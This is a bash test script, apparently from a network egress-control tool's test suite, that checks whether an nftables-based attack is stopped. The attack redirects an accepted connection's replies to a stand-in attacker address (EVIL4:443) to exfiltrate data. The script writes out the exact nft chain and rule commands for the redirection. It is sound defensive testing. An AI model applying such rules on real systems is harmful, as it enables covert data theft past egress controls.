#!/bin/bash
# SPDX-License-Identifier: BSD-2-Clause
# attack: has the kernel of its namespace translate the answers of an inbound connection, so that they go to evil
# stopped-by: egress
# reason: destination
# kernels: all
#
# The socket may answer whoever opened the connection, and nobody else; what the packet says after the
# translation is what counts. Root with CAP_NET_ADMIN in its own network namespace.
. "$(dirname "$0")/lib.sh"
need_program nft
arena udp/9000
inside_netns "$CLIENT" nft add table ip t 2>/dev/null || skip "this kernel has no nf_tables"

# The peer: opens a connection from port 7777 and keeps it.
peer() { spawn_in "$SERVER" "$E2E/probe" --stay --bind 7777 --timeout 5 tcp 192.0.2.2 8080; }

attack_by <<'PYTHON'
from attacker import *
import subprocess
import time

subprocess.run(["nft", "flush chain ip t p"], stderr=subprocess.DEVNULL)
listener = socket.create_server(("0.0.0.0", 8080))
ready()
accepted, peer = listener.accept()
accepted.send(honest("answer"))
time.sleep(0.2) # until that is acknowledged: what is sent again would be translated, too
rules = f"add chain ip t o {{ type nat hook output priority 0; }}; add chain ip t p {{ type route hook output priority -400; }};" \
    f"add rule ip t p tcp sport 8080 tcp flags & psh == psh ip daddr set {EVIL4} tcp dport set 443"
subprocess.run(["nft", rules], check=True)
with attempt("translated"):
    accepted.send(loot("translated"))
PYTHON
MEANWHILE=peer
works_once_open honest:answer stolen:translated
stopped_once_open gate
passes honest:answer
recorded egress destination
